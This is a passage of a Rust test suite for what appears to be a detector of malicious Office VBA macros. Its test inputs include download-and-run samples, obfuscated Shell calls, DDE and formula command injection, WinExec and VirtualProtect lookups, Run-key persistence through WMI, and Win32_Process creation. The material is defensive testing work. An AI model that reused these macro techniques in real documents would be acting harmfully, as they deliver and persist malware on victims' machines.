    let shown: Vec<(ActionKind, &str)> = found.iter().map(|action| (action.kind, action.detail.as_str())).collect();
    assert_eq!(
        shown,
        [
            (ActionKind::Fetch, "http://a.example/x"),
            (ActionKind::Download, "http://a.example/x %TEMP%\\a.exe"),
            (ActionKind::Run, "%TEMP%\\a.exe"),
        ]
    );
}

#[test]
fn branches_nobody_knows() {
    // Both are seen; what they leave different is not known.
    let found = runs(
        "If Rnd > 0.5 Then\ns = \"a.exe\"\nShell s & \" 1\"\nElse\ns = \"b.exe\"\nShell s & \" 2\"\nEnd If\nShell s",
    );
    assert_eq!(found, ["a.exe 1", "b.exe 2", "…"]);
    let found = runs("s = \"cmd\"\nFor i = 1 To Rnd * 5\nShell s & \"!\"\ns = s & \"x\"\nNext\nShell s");
    assert_eq!(found[0], "cmd!");
    assert_eq!(found.last().unwrap(), "…");
    // Dead code is not run, but it is still there.
    let found = runs("If 1 = 2 Then\nShell \"dead.exe\"\nEnd If\nShell \"cm\" & Chr(100)");
    assert_eq!(found, ["cmd", "dead.exe"]);
}

#[test]
fn honest_lookalikes() {
    let book = "Private Sub Workbook_Open()\nDim fso As Object, f, r As Long\nSet fso = CreateObject(\"Scripting.FileSystemObject\")\n\
        p = ThisWorkbook.Path & \"\\出力.csv\"\nOpen p For Output As #1\nFor r = 1 To 3\nPrint #1, Sheet1.Cells(r, 1).Value; \",\"; r\nNext\nClose #1\n\
        Set f = fso.CreateTextFile(p & \".txt\", True)\nf.WriteLine \"日報\"\nf.Close\n\
        Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"Provider=SQLOLEDB;Data Source=db\"\nSet rs = CreateObject(\"ADODB.Recordset\")\n\
        rs.Open \"SELECT * FROM t\", c\nDo Until rs.EOF\nCells(r, 1) = rs!Name\nr = r + 1\nrs.MoveNext\nLoop\n\
        kinds = Array(\"Scripting.Dictionary\", \"ADODB.Recordset\")\nFor Each k In kinds\nSet o = CreateObject(k)\nNext\n\
        Shell \"notepad.exe \" & p, vbNormalFocus\nEnd Sub\n";
    let found = all(&[("ThisWorkbook", ModuleKind::Document, book)]);
    let grave = [ActionKind::Run, ActionKind::Inject, ActionKind::Hidden, ActionKind::Indirect, ActionKind::Download];
    assert!(found.iter().all(|action| !grave.contains(&action.kind)), "{found:?}");
    // Two names, one of them hidden in a branch that may be taken.
    let hidden =
        "k = \"Scripting.Dictionary\"\nIf Rnd > 0.5 Then k = Range(\"Z9\").Offset(x).Value\nSet o = CreateObject(k)";
    assert_eq!(details(ActionKind::Hidden, &opened(hidden)).len(), 1);
}

#[test]
fn formulas_and_conversations_that_start_a_program() {
    let table: &[(&str, &str)] = &[
        ("Sheet1.Range(\"A1\").Formula = \"=cm\" & \"d|'/c x'!A1\"", "=cmd|'/c x'!A1"),
        ("Sheets(\"new\").Range(\"H2\").Value = \"=EX\" & \"EC(1)\"", "=EXEC(1)"),
        ("Set s = Sheets.Add\ns.Range(\"H2\").FormulaLocal = \"=CALL(1)\"", "=CALL(1)"),
        ("Sheet1.Cells(1, 1) = \"=EXEC(2)\"", "=EXEC(2)"),
        ("ThisWorkbook.Names.Add \"n\", \"=EXEC(3)\"", "=EXEC(3)"),
        ("Application.DDEInitiate \"cmd\", \"/c x\"", "cmd /c x"),
        ("DDEInitiate \"cmd\", \"/c x\"", "cmd /c x"),
    ];
    for (body, expected) in table {
        assert_eq!(runs(body), [*expected], "{body}");
    }
    let honest = [
        "Sheet1.Range(\"A1\").Formula = \"=RSS|'7203.T'!price\"",
        "Sheet1.Range(\"A1\").Formula = \"=SUM(B1:B9)\"",
        "Sheet1.Range(\"A1\").Value = \"EXEC(1) cmd|x!y\"",
        "ThisWorkbook.Names.Add \"n\", \"=Sheet1!$A$1\"",
        "c = Application.DDEInitiate(\"RSS\", \"7203.T\")",
    ];
    for body in honest {
        assert!(runs(body).is_empty(), "{body}");
    }
}

#[test]
fn functions_asked_for_by_name_and_the_registry_of_wmi() {
    let declare =
        "Declare PtrSafe Function GetProcAddress Lib \"kernel32\" (ByVal m As LongPtr, ByVal n As String) As LongPtr\n";
    let of = |kind, body: &str| details(kind, &format!("{declare}{}", opened(body)));
    assert_eq!(of(ActionKind::Run, "p = GetProcAddress(m, \"Win\" & \"Exec\")"), ["WinExec"]);
    assert_eq!(of(ActionKind::Inject, "p = GetProcAddress(m, \"VirtualProtect\")"), ["VirtualProtect"]);
    assert!(of(ActionKind::Run, "p = GetProcAddress(m, \"GetTickCount\")").is_empty());
    let registry = "Set r = GetObject(\"winmgmts:\\\\.\\root\\default:StdRegProv\")\nr.SetStringValue &H80000001, ";
    let run = "\"Software\\Microsoft\\Windows\\CurrentVersion\\Run\", \"x\", \"calc\"";
    assert_eq!(of(ActionKind::Persist, &format!("{registry}{run}")).len(), 1);
    assert!(of(ActionKind::Persist, &format!("{registry}\"Software\\My\", \"x\", \"calc\"")).is_empty());
    let method = "Set s = CreateObject(\"WbemScripting.SWbemLocator\").ConnectServer(\".\", \"root\\cimv2\")\n\
        Set i = s.Get(\"Win32_Process\").Methods_(\"Create\").InParameters.SpawnInstance_\n\
        i.CommandLine = \"c\" & \"alc\"\ns.ExecMethod \"Win32_Process\", \"Create\", i";
    assert_eq!(of(ActionKind::Run, method), ["calc"]);
}

#[test]
fn an_object_that_goes_knows_what_it_was_given() {
    let book = "Sub Workbook_Open()\nDim k As New Killer\nk.Line = \"c\" & \"alc\"\nSet k = Nothing\nEnd Sub";
    let class = "Public Line\nPrivate Sub Class_Terminate()\nShell Line\nEnd Sub";
    let found = all(&[("ThisWorkbook", ModuleKind::Document, book), ("Killer", ModuleKind::Class, class)]);
    assert!(found.iter().any(|action| action.detail == "calc" && action.reached_by.is_some()), "{found:?}");
}

#[test]
fn controls_in_a_frame_are_counted_from_0() {
    let control = |name: &str, parent: &str, tag: &str| Control {
        owner: "F".into(),
        name: name.into(),
        parent: parent.into(),
        properties: [("tag", tag.to_owned())].into(),
        ..Control::default()
    };
    let around = Surroundings {
        controls: vec![
            control("Frame1", "", "a"),
            control("L1", "", "b"),
            control("L2", "Frame1", "c"),
            control("L3", "Frame1", "d"),
        ],
        ..Surroundings::default()
    };
    let source = opened("Shell F.Frame1.Controls(0).Tag & F.Frame1.Controls(\"L3\").Tag & F.Controls(1).Tag");
    let found = super::tests::behaviour(&[("M", ModuleKind::Standard, &source)], &around);
    let run = found.actions.iter().find(|action| action.kind == ActionKind::Run).unwrap();
    assert_eq!(run.detail, "cdb");
}

#[test]
fn controls_that_a_macro_sets() {
    let reached = |set: &str, handler: &str| {
        let book = format!("Sub Document_Open()\n{set}\nEnd Sub");
        let form = format!("Private Sub {handler}()\nShell \"calc\"\nEnd Sub");
        let found = all(&[("ThisDocument", ModuleKind::Document, &book), ("F", ModuleKind::Form, &form)]);
        found.iter().any(|action| action.reached_by.is_some())
    };
    assert!(reached("F.TextBox1.Text = \"a\"", "TextBox1_Change"));
    assert!(reached("F.TextBox1 = \"a\"", "TextBox1_Change"));
    assert!(reached("F.OptionButton1.Value = True", "OptionButton1_Click"));
    // What is read or labelled raises nothing.
    assert!(!reached("If F.TextBox1.Text = \"a\" Then Beep", "TextBox1_Change"));
    assert!(!reached("F.Label1.Caption = \"a\"", "Label1_Click"));
    assert!(!reached("F.TextBox1.Text = \"a\"", "Button1_Click"));
}

#[test]
fn hostile_programs_end() {
    let deep: String = (0..200)
        .map(|i| format!("Sub p{i}()\nIf Rnd Then p{} Else p{}\nEnd Sub\n", (i + 1) % 200, (i * 7) % 200))
        .collect();
    let all_of_them = [
        opened("Do\nLoop\nShell \"x.exe\""),
        opened("Do\ns = s & \"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\"\nLoop\nShell \"x.exe\""),
        opened("a:\nGoTo a\nShell \"x.exe\""),
        opened("For i = 1 To 1000000\nFor j = 1 To 1000000\nReDim a(100000)\nNext\nNext\nShell \"x.exe\""),
        format!("{}Sub F(n)\nF n + 1\nF n + 2\nEnd Sub\n", opened("F 1\nShell \"x.exe\"")),
        format!("{}{deep}", opened("p0\nShell \"x.exe\"")),
        opened(&format!("{}Shell \"x.exe\"\n{}", "If Rnd Then\n".repeat(3000), "End If\n".repeat(3000))),
        opened(&format!("Shell {}\"x.exe\"{}", "(".repeat(3000), ")".repeat(3000))),
        opened(&format!("{}Shell \"x.exe\"\n{}", "For i = 1 To Rnd\n".repeat(30), "Next\n".repeat(30))),
        opened("s = \"x\"\nFor i = 1 To 64\ns = s & s\nNext\nShell \"x.exe\""),
        opened("Dim a(1 To 1000, 1 To 1000, 1 To 1000)\nx = String(100000000, \"x\")\nShell \"x.exe\""),
        opened("Dim k As New Collection\nDo\nk.Add k\nLoop\nShell \"x.exe\""),
    ];
    for source in all_of_them {
        let start = std::time::Instant::now();
        let found = all(&[("M", ModuleKind::Standard, &source)]);
        assert!(found.iter().any(|action| action.kind == ActionKind::Run), "{}", &source[..80.min(source.len())]);
        assert!(start.elapsed().as_secs() < 20, "{}", &source[..80.min(source.len())]);
    }
}
